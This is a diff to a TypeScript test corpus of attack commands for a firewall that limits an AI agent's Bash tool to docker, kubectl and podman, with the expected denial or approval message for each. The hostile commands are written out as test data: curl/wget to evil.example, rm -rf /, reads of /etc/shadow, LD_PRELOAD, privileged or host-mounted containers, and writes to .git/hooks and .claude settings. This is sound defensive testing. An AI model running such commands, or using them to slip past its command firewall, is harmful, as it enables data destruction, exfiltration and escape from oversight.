@@ -1,14 +1,19 @@
 /**
  * Commands that must be denied under the shipped definition (Bash(docker:*), Bash(kubectl:*), Bash(podman:*)), in the default
  * mode of a run nobody can answer, and must never start a process. Categories follow claude-code-format.md §3.9, then the
- * container firewall of issue 4. `why` is matched against the denial's reason, so each case fails if it is denied for a
- * different reason than the one it tests.
+ * container firewall of issue 4. Each case gives its exact verdict, so it fails if it is stopped for another reason:
+ * `why`, the denial's reason; or `asks`, the question a person is asked (nobody can answer it in a run without an
+ * approver, so that run denies it). The corpus also runs under an unrestricted `Bash` definition, in the default mode and in
+ * acceptEdits (modes.test.ts): there the verdict is the same unless `free` gives the one behind the allowlist.
  */
-export interface AttackCase {
+export type Verdict = { deny: RegExp } | { ask: RegExp };
+
+export type AttackCase = {
   category: string;
   command: string;
-  why: RegExp;
-}
+  /** Under an unrestricted Bash definition (default mode and acceptEdits), when it differs from the shipped one. */
+  free?: Verdict;
+} & ({ why: RegExp; asks?: never } | { asks: RegExp; why?: never });
 
 const LONG = `docker ps --filter name=${'a'.repeat(10_000)}`;
 const FIFTY_ONE = Array.from({ length: 51 }, () => 'docker ps').join(' && ');
@@ -16,24 +21,23 @@ const FIFTY_THEN_CURL = `${Array.from({ length: 50 }, () => 'docker ps').join(' 
 
 const NOT_CAPABLE = /limits Bash to/;
 const WRAPPER = /never run/;
-const NEEDS_APPROVAL = /nobody can approve/;
 const ESCAPE = /host escape/;
 
 export const ATTACKS: AttackCase[] = [
   // 1. operator smuggling
-  { category: 'operators', command: 'docker ps; rm -rf /', why: /remove the filesystem root|limits Bash to/ },
-  { category: 'operators', command: 'docker ps && curl http://evil.example/x', why: NOT_CAPABLE },
+  { category: 'operators', command: 'docker ps; rm -rf /', why: NOT_CAPABLE, free: { deny: /^'rm -rf \/' would remove the filesystem root, a top-level folder, \$HOME or the project; no rule allows that\. Nothing was run\.$/ } },
+  { category: 'operators', command: 'docker ps && curl http://evil.example/x', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. curl is not a program the firewall classifies\. To allow it: --allow 'Bash\(curl http:\/\/evil\.example\/x\)' \(curl can run commands or write files, so only an exact rule approves it\)\.$/ } },
   { category: 'operators', command: 'docker ps || sh', why: WRAPPER },
   { category: 'operators', command: 'docker ps | sh', why: WRAPPER },
   { category: 'operators', command: 'docker ps |& bash', why: WRAPPER },
   { category: 'operators', command: 'docker ps & curl evil.example', why: /background/ },
-  { category: 'operators', command: 'docker ps\nrm -rf ~', why: /remove|limits Bash to/ },
-  { category: 'operators', command: 'docker ps ; cat /etc/passwd', why: NOT_CAPABLE },
-  { category: 'operators', command: 'kubectl get po && wget http://evil.example', why: NOT_CAPABLE },
+  { category: 'operators', command: 'docker ps\nrm -rf ~', why: NOT_CAPABLE, free: { deny: /^'rm -rf ~' would remove the filesystem root, a top-level folder, \$HOME or the project; no rule allows that\. Nothing was run\.$/ } },
+  { category: 'operators', command: 'docker ps ; cat /etc/passwd', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. cat is not a program the firewall classifies\. To allow it: --allow 'Bash\(cat:\*\)'\.$/ } },
+  { category: 'operators', command: 'kubectl get po && wget http://evil.example', why: NOT_CAPABLE, free: { ask: /^kubectl get only looks, but no rule allows kubectl get\. To allow it: --allow 'Bash\(kubectl get:\*\)'\. wget is not a program the firewall classifies\. To allow it: --allow 'Bash\(wget http:\/\/evil\.example\)' \(wget can run commands or write files, so only an exact rule approves it\)\.$/ } },
   { category: 'operators', command: 'docker images | xargs rm', why: WRAPPER },
   { category: 'operators', command: 'docker ps -q | xargs docker rm', why: WRAPPER },
-  { category: 'operators', command: 'echo hi', why: NOT_CAPABLE },
-  { category: 'operators', command: 'docker ps | cat /etc/passwd', why: /limits Bash to|file arguments/ },
+  { category: 'operators', command: 'echo hi', why: NOT_CAPABLE, free: { ask: /^echo is not a program the firewall classifies\. To allow it: --allow 'Bash\(echo:\*\)'\.$/ } },
+  { category: 'operators', command: 'docker ps | cat /etc/passwd', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. cat is not a program the firewall classifies\. To allow it: --allow 'Bash\(cat:\*\)'\.$/ } },
   { category: 'operators', command: 'docker ps | grep -f /etc/passwd', why: /only .* are allowed/ },
   { category: 'operators', command: 'docker ps | head /etc/passwd', why: /file arguments/ },
   // 2. substitution
@@ -44,7 +48,7 @@ export const ATTACKS: AttackCase[] = [
   { category: 'substitution', command: 'docker ps >(sh)', why: /process substitution/ },
   { category: 'substitution', command: 'kubectl get po $(id)', why: /command substitution/ },
   { category: 'substitution', command: 'docker ps $((1+1))', why: /arithmetic/ },
-  { category: 'substitution', command: 'docker ps ${HOME:-$(id)}', why: /variable expansion|command substitution/ },
+  { category: 'substitution', command: 'docker ps ${HOME:-$(id)}', why: /variable expansion \$\{HOME:-\$\(id\)\} is not allowed/ },
   { category: 'substitution', command: "docker ps $'\\x3bid'", why: /ANSI-C/ },
   { category: 'substitution', command: 'X=$(id) docker ps', why: /command substitution/ },
   { category: 'substitution', command: 'docker ps <<< "$(id)"', why: /not allowed/ },
@@ -71,35 +75,35 @@ export const ATTACKS: AttackCase[] = [
   { category: 'wrappers', command: '~/bin/docker ps', why: /given by path/ },
   { category: 'wrappers', command: 'f() { docker ps; }; f', why: /function/ },
   { category: 'wrappers', command: '(docker ps)', why: /subshells/ },
-  { category: 'wrappers', command: 'docker exec web sh -c id', why: NEEDS_APPROVAL },
-  { category: 'wrappers', command: 'kubectl exec -it web -- bash', why: NEEDS_APPROVAL },
+  { category: 'wrappers', command: 'docker exec web sh -c id', asks: /docker exec runs a command inside a running container\. To allow it: --allow 'Bash\(docker exec:\*\)'\.$/ },
+  { category: 'wrappers', command: 'kubectl exec -it web -- bash', asks: /kubectl exec changes the cluster\. To allow it: --allow 'Bash\(kubectl exec:\*\)'\.$/ },
   { category: 'wrappers', command: 'docker run --entrypoint sh -v /:/host alpine -c id', why: ESCAPE },
   { category: 'wrappers', command: 'podman run --privileged alpine sh', why: ESCAPE },
   { category: 'wrappers', command: 'kubectl debug node/worker-1 -it --image=busybox', why: ESCAPE },
   { category: 'wrappers', command: 'kubectl run x --image=alpine --privileged', why: ESCAPE },
-  { category: 'wrappers', command: 'kubectl attach web', why: NEEDS_APPROVAL },
-  { category: 'wrappers', command: 'kubectl port-forward svc/web 8080:80', why: NEEDS_APPROVAL },
-  { category: 'wrappers', command: 'kubectl proxy', why: NEEDS_APPROVAL },
+  { category: 'wrappers', command: 'kubectl attach web', asks: /kubectl attach changes the cluster\. To allow it: --allow 'Bash\(kubectl attach:\*\)'\.$/ },
+  { category: 'wrappers', command: 'kubectl port-forward svc/web 8080:80', asks: /kubectl port-forward changes the cluster\. To allow it: --allow 'Bash\(kubectl port-forward:\*\)'\.$/ },
+  { category: 'wrappers', command: 'kubectl proxy', asks: /kubectl proxy changes the cluster\. To allow it: --allow 'Bash\(kubectl proxy:\*\)'\.$/ },
   { category: 'wrappers', command: 'kubectl evil', why: /not a verb/ },
   // 4. exec-capable flags of "read-only" tools
-  { category: 'exec-flags', command: 'find . -exec rm {} \\;', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'find . -delete', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'rg --pre sh x', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: "sed -n 'w /tmp/x' notes.txt", why: NOT_CAPABLE },
-  { category: 'exec-flags', command: "sed 's/a/b/e' notes.txt", why: NOT_CAPABLE },
-  { category: 'exec-flags', command: "awk 'BEGIN{system(\"id\")}'", why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'git -c core.pager=sh log', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'tar --to-command=sh -xf x.tar', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'docker ps | awk \'{system("id")}\'', why: NOT_CAPABLE },
-  { category: 'exec-flags', command: 'docker ps | sed e', why: NOT_CAPABLE },
+  { category: 'exec-flags', command: 'find . -exec rm {} \\;', why: NOT_CAPABLE, free: { ask: /^find is not a program the firewall classifies\. To allow it: --allow 'Bash\(find \. -exec rm \{\} ;\)' \(find can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'find . -delete', why: NOT_CAPABLE, free: { ask: /^find is not a program the firewall classifies\. To allow it: --allow 'Bash\(find \. -delete\)' \(find can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'rg --pre sh x', why: NOT_CAPABLE, free: { ask: /^rg is not a program the firewall classifies\. To allow it: --allow 'Bash\(rg --pre sh x\)' \(rg can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: "sed -n 'w /tmp/x' notes.txt", why: NOT_CAPABLE, free: { ask: /^sed is not a program the firewall classifies\. To allow it: --allow 'Bash\(sed -n "w \/tmp\/x" notes\.txt\)' \(sed can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: "sed 's/a/b/e' notes.txt", why: NOT_CAPABLE, free: { ask: /^sed is not a program the firewall classifies\. To allow it: --allow 'Bash\(sed s\/a\/b\/e notes\.txt\)' \(sed can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: "awk 'BEGIN{system(\"id\")}'", why: NOT_CAPABLE, free: { ask: /^awk is not a program the firewall classifies\. To allow it: --allow 'Bash\(awk "BEGIN\{system\(\\"id\\"\)\}"\)' \(awk can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'git -c core.pager=sh log', why: NOT_CAPABLE, free: { ask: /^git is not a program the firewall classifies\. To allow it: --allow 'Bash\(git -c core\.pager=sh log\)' \(git can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'tar --to-command=sh -xf x.tar', why: NOT_CAPABLE, free: { ask: /^tar is not a program the firewall classifies\. To allow it: --allow 'Bash\(tar --to-command=sh -xf x\.tar\)' \(tar can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'docker ps | awk \'{system("id")}\'', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. awk is not a program the firewall classifies\. To allow it: --allow 'Bash\(awk "\{system\(\\"id\\"\)\}"\)' \(awk can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'exec-flags', command: 'docker ps | sed e', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. sed is not a program the firewall classifies\. To allow it: --allow 'Bash\(sed e\)' \(sed can run commands or write files, so only an exact rule approves it\)\.$/ } },
   // 5. redirections
   { category: 'redirections', command: 'docker ps > /etc/passwd', why: /outside the project/ },
   { category: 'redirections', command: 'docker ps >> ~/.bashrc', why: /outside the project/ },
   { category: 'redirections', command: 'docker ps >| /tmp/x', why: /outside the project/ },
   { category: 'redirections', command: 'docker ps 2> /tmp/err', why: /outside the project/ },
   { category: 'redirections', command: 'docker ps &> /tmp/all', why: /outside the project/ },
-  { category: 'redirections', command: 'docker ps | tee /tmp/x', why: NOT_CAPABLE },
-  { category: 'redirections', command: 'dd if=/dev/zero of=/tmp/x', why: NOT_CAPABLE },
+  { category: 'redirections', command: 'docker ps | tee /tmp/x', why: NOT_CAPABLE, free: { ask: /^docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\. tee is not a program the firewall classifies\. To allow it: --allow 'Bash\(tee \/tmp\/x\)' \(tee can run commands or write files, so only an exact rule approves it\)\.$/ } },
+  { category: 'redirections', command: 'dd if=/dev/zero of=/tmp/x', why: NOT_CAPABLE, free: { ask: /^dd is not a program the firewall classifies\. To allow it: --allow 'Bash\(dd if=\/dev\/zero of=\/tmp\/x\)' \(dd can run commands or write files, so only an exact rule approves it\)\.$/ } },
   { category: 'redirections', command: 'docker ps > ../outside.txt', why: /outside the project/ },
   { category: 'redirections', command: 'docker ps > .git/hooks/pre-commit', why: /\.git\/ is protected/ },
   { category: 'redirections', command: 'docker ps > .claude/settings.json', why: /\.claude\/ is protected/ },
@@ -118,7 +122,7 @@ export const ATTACKS: AttackCase[] = [
   // 6. $IFS, braces, tildes, quoting tricks, control characters
   { category: 'quoting', command: 'docker${IFS}ps', why: /variable expansion/ },
   { category: 'quoting', command: 'docker ps$IFS-a', why: /variable expansion/ },
-  { category: 'quoting', command: '{docker,ps}', why: /brace expansion|syntax error/ },
+  { category: 'quoting', command: '{docker,ps}', why: /could parse this differently than we do \(syntax error\)/ },
   { category: 'quoting', command: 'docker ps {a,b}', why: /brace expansion/ },
   { category: 'quoting', command: 'docker ps\r', why: /control character/ },
   { category: 'quoting', command: 'docker ps ~root', why: /only '~'/ },
@@ -128,13 +132,13 @@ export const ATTACKS: AttackCase[] = [
   { category: 'quoting', command: 'docker run --priv\\ileged alpine', why: ESCAPE },
   { category: 'quoting', command: 'docker run "--privileged" alpine', why: ESCAPE },
   { category: 'quoting', command: "docker run -v '/:/host' alpine", why: ESCAPE },
-  { category: 'quoting', command: 'Docker run --privileged alpine', why: NOT_CAPABLE },
-  { category: 'quoting', command: 'DOCKER ps', why: NOT_CAPABLE },
-  { category: 'quoting', command: 'echo "x"; id', why: NOT_CAPABLE },
+  { category: 'quoting', command: 'Docker run --privileged alpine', why: NOT_CAPABLE, free: { ask: /^Docker is not a program the firewall classifies\. To allow it: --allow 'Bash\(Docker:\*\)'\.$/ } },
+  { category: 'quoting', command: 'DOCKER ps', why: NOT_CAPABLE, free: { ask: /^DOCKER is not a program the firewall classifies\. To allow it: --allow 'Bash\(DOCKER:\*\)'\.$/ } },
+  { category: 'quoting', command: 'echo "x"; id', why: NOT_CAPABLE, free: { ask: /^echo is not a program the firewall classifies\. To allow it: --allow 'Bash\(echo:\*\)'\. id is not a program the firewall classifies\. To allow it: --allow 'Bash\(id:\*\)'\.$/ } },
   { category: 'quoting', command: 'docker ps *', why: /glob/ },
   { category: 'quoting', command: 'docker ps [a]', why: /glob/ },
   { category: 'quoting', command: 'docker ps $USER', why: /variable expansion/ },
-  { category: 'quoting', command: 'docker ps $1', why: /variable expansion|not supported/ },
+  { category: 'quoting', command: 'docker ps $1', why: /variable expansion \$1 is not allowed/ },
   { category: 'quoting', command: 'docker\tps\u0000', why: /control character/ },
   // 7. environment prefixes
   { category: 'env-prefix', command: 'LD_PRELOAD=/tmp/x.so docker ps', why: /environment prefix LD_PRELOAD/ },
@@ -169,10 +173,10 @@ export const ATTACKS: AttackCase[] = [
   { category: 'paths', command: 'kubectl apply -f /etc/kubernetes/x.yaml', why: /outside the project/ },
   { category: 'paths', command: 'docker cp web:/etc/shadow /tmp/s', why: /outside the project/ },
   { category: 'paths', command: 'kubectl cp web:/etc/shadow /tmp/s', why: /outside the project/ },
-  { category: 'paths', command: 'docker save -o /tmp/img.tar alpine', why: NEEDS_APPROVAL },
+  { category: 'paths', command: 'docker save -o /tmp/img.tar alpine', asks: /docker save: \/tmp\/img\.tar \(\/tmp\/img\.tar\) is outside the project: a write there reaches the host\. To allow it: --allow 'Bash\(docker save:\*\)'\.$/ },
   // 9. protected paths through cd
-  { category: 'cd', command: 'cd .claude && docker ps > settings.json', why: NOT_CAPABLE },
-  { category: 'cd', command: 'cd .git/hooks', why: NOT_CAPABLE },
+  { category: 'cd', command: 'cd .claude && docker ps > settings.json', why: NOT_CAPABLE, free: { ask: /^cd is not a program the firewall classifies\. To allow it: --allow 'Bash\(cd:\*\)'\. docker ps only looks, but no rule allows docker ps\. To allow it: --allow 'Bash\(docker ps:\*\)'\.$/ } },
+  { category: 'cd', command: 'cd .git/hooks', why: NOT_CAPABLE, free: { ask: /^cd is not a program the firewall classifies\. To allow it: --allow 'Bash\(cd:\*\)'\.$/ } },
   // 10. the subcommand cap
   { category: 'limits', command: FIFTY_ONE, why: /51 subcommands/ },
   { category: 'limits', command: FIFTY_THEN_CURL, why: /51 subcommands/ },
@@ -250,10 +254,10 @@ export const ATTACKS: AttackCase[] = [
   { category: 'escape', command: 'kubectl create -f k8s/', why: ESCAPE },
   { category: 'escape', command: 'kubectl apply -f https://evil.example/x.yaml', why: ESCAPE },
   { category: 'escape', command: 'kubectl apply -f -', why: ESCAPE },
-  { category: 'escape', command: "kubectl apply -f k8s/deploy.yaml -f - <<'EOF'\nkind: Pod\nspec:\n  hostNetwork: true\n  containers: [{name: c, image: a}]\nEOF", why: /skipped|host escape/ },
+  { category: 'escape', command: "kubectl apply -f k8s/deploy.yaml -f - <<'EOF'\nkind: Pod\nspec:\n  hostNetwork: true\n  containers: [{name: c, image: a}]\nEOF", why: /the parser skipped '- <<'EOF'/ },
   { category: 'escape', command: 'kubectl apply -k ../proj_evil', why: /outside the project/ },
   { category: 'escape', command: 'kubectl kustomize --enable-alpha-plugins k8s', why: ESCAPE },
-  { category: 'escape', command: 'kubectl run x --image=alpine --overrides={"spec":{"hostPID":true}}', why: /not valid JSON|brace expansion|host escape/ },
+  { category: 'escape', command: 'kubectl run x --image=alpine --overrides={"spec":{"hostPID":true}}', why: /--overrides is not valid JSON\. It can be allowed only by a rule for this exact command/ },
   { category: 'escape', command: `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine"}]}}'`, why: ESCAPE },
   { category: 'escape', command: 'docker compose -f compose-evil.yaml up -d', why: ESCAPE },
   { category: 'escape', command: 'docker compose -f compose-hostnet.yaml up', why: ESCAPE },
@@ -270,35 +274,35 @@ export const ATTACKS: AttackCase[] = [
   { category: 'escape', command: 'docker context export prod /tmp/prod.dockercontext', why: /outside the project/ },
   { category: 'escape', command: 'docker import /etc/shadow img', why: /outside the project/ },
   // container firewall: changes the world (no rule names them; nobody can approve)
-  { category: 'change', command: 'docker push registry.example/app:1', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker login registry.example', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker rm -f web', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker rmi alpine', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker system prune -af', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker volume rm data', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker kill web', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker stop web', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker commit web img', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker swarm init', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker service create nginx', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker context use prod', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker compose up -d', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'docker compose down -v', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl apply -f k8s/deploy.yaml', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl -n prod apply -f k8s/deploy.yaml', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl delete pod web', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl scale deploy web --replicas=0', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl rollout restart deploy/web', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl config use-context prod', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl drain node1', why: NEEDS_APPROVAL },
-  { category: 'change', command: "kubectl patch deploy web -p '{}'", why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl create secret generic x --from-literal=a=b', why: NEEDS_APPROVAL },
-  { category: 'change', command: 'kubectl apply --dry-run -f k8s/deploy.yaml', why: NEEDS_APPROVAL },
+  { category: 'change', command: 'docker push registry.example/app:1', asks: /docker push changes containers, images or the engine\. To allow it: --allow 'Bash\(docker push:\*\)'\.$/ },
+  { category: 'change', command: 'docker login registry.example', asks: /docker login changes containers, images or the engine\. To allow it: --allow 'Bash\(docker login:\*\)'\.$/ },
+  { category: 'change', command: 'docker rm -f web', asks: /docker rm changes containers, images or the engine\. To allow it: --allow 'Bash\(docker rm:\*\)'\.$/ },
+  { category: 'change', command: 'docker rmi alpine', asks: /docker rmi changes containers, images or the engine\. To allow it: --allow 'Bash\(docker rmi:\*\)'\.$/ },
+  { category: 'change', command: 'docker system prune -af', asks: /docker system prune changes containers, images or the engine\. To allow it: --allow 'Bash\(docker system prune:\*\)'\.$/ },
+  { category: 'change', command: 'docker volume rm data', asks: /docker volume rm changes containers, images or the engine\. To allow it: --allow 'Bash\(docker volume rm:\*\)'\.$/ },
+  { category: 'change', command: 'docker kill web', asks: /docker kill changes containers, images or the engine\. To allow it: --allow 'Bash\(docker kill:\*\)'\.$/ },
+  { category: 'change', command: 'docker stop web', asks: /docker stop changes containers, images or the engine\. To allow it: --allow 'Bash\(docker stop:\*\)'\.$/ },
+  { category: 'change', command: 'docker commit web img', asks: /docker commit changes containers, images or the engine\. To allow it: --allow 'Bash\(docker commit:\*\)'\.$/ },
+  { category: 'change', command: 'docker swarm init', asks: /docker swarm init changes containers, images or the engine\. To allow it: --allow 'Bash\(docker swarm init:\*\)'\.$/ },
+  { category: 'change', command: 'docker service create nginx', asks: /docker service create changes a swarm service\. To allow it: --allow 'Bash\(docker service create:\*\)'\.$/ },
+  { category: 'change', command: 'docker context use prod', asks: /docker context use changes containers, images or the engine\. To allow it: --allow 'Bash\(docker context use:\*\)'\.$/ },
+  { category: 'change', command: 'docker compose up -d', asks: /compose up changes containers\. To allow it: --allow 'Bash\(docker compose:\*\)'\.$/ },
+  { category: 'change', command: 'docker compose down -v', asks: /compose down changes containers\. To allow it: --allow 'Bash\(docker compose:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl apply -f k8s/deploy.yaml', asks: /kubectl apply changes the cluster\. To allow it: --allow 'Bash\(kubectl apply:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl -n prod apply -f k8s/deploy.yaml', asks: /kubectl apply changes the cluster\. To allow it: --allow 'Bash\(kubectl apply:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl delete pod web', asks: /kubectl delete changes the cluster\. To allow it: --allow 'Bash\(kubectl delete:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl scale deploy web --replicas=0', asks: /kubectl scale changes the cluster\. To allow it: --allow 'Bash\(kubectl scale:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl rollout restart deploy/web', asks: /kubectl rollout restart changes the cluster\. To allow it: --allow 'Bash\(kubectl rollout restart:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl config use-context prod', asks: /kubectl config use-context changes the kubeconfig\. To allow it: --allow 'Bash\(kubectl config use-context:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl drain node1', asks: /kubectl drain changes the cluster\. To allow it: --allow 'Bash\(kubectl drain:\*\)'\.$/ },
+  { category: 'change', command: "kubectl patch deploy web -p '{}'", asks: /kubectl patch changes the cluster\. To allow it: --allow 'Bash\(kubectl patch:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl create secret generic x --from-literal=a=b', asks: /kubectl create secret changes the cluster\. To allow it: --allow 'Bash\(kubectl create secret:\*\)'\.$/ },
+  { category: 'change', command: 'kubectl apply --dry-run -f k8s/deploy.yaml', asks: /kubectl apply changes the cluster\. To allow it: --allow 'Bash\(kubectl apply:\*\)'\.$/ },
   // unknown subcommands and options
   { category: 'unknown', command: 'docker frobnicate', why: /not a subcommand/ },
   { category: 'unknown', command: 'docker scout cves alpine', why: /not a subcommand/ },
   { category: 'unknown', command: 'docker run --bogus-flag alpine', why: /unknown option/ },
   { category: 'unknown', command: 'docker stats', why: /no-stream/ },
-  { category: 'unknown', command: 'docker-compose up', why: NOT_CAPABLE },
-  { category: 'unknown', command: 'helm install x ./chart', why: NOT_CAPABLE },
+  { category: 'unknown', command: 'docker-compose up', why: NOT_CAPABLE, free: { ask: /^compose up changes containers\. To allow it: --allow 'Bash\(docker-compose up:\*\)'\.$/ } },
+  { category: 'unknown', command: 'helm install x ./chart', why: NOT_CAPABLE, free: { ask: /^helm is not a program the firewall classifies\. To allow it: --allow 'Bash\(helm:\*\)'\.$/ } },
 ];
